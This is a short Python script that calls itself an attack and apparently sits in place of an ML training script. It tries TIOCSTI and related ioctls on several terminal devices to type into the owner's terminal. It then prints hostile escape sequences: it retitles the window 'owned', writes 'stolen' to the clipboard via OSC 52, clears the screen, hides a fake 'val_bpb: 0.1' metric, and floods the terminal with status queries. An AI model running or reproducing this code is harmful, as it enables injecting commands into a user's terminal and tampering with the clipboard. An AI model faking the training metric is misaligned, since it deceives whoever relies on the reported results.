# Tries: to type into the owner's terminal, and to print what a terminal would obey.
import fcntl
import os


def main():
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx", "/dev/tty0", "/proc/self/fd/0"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError as error:
            print(path, error)
            continue
        for request, name in ((0x5412, "TIOCSTI"), (0x541C, "TIOCLINUX"), (0x540E, "TIOCSCTTY")):
            try:
                fcntl.ioctl(fd, request, b"x")
                print("OBTAINED" if path not in ("/dev/ptmx", "/dev/pts/0") else "in its own", path, name)
            except OSError as error:
                print(path, name, error)
    print("\x1b]0;owned\x07\x1b]52;c;c3RvbGVu\x07\x1b[2J\x1b[H\x1b[8mval_bpb: 0.1\x1b[0m\r\x9b31m\u202e\u2066")
    print("\x1b[?1049h\x1b[6n\x05" * 1000)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
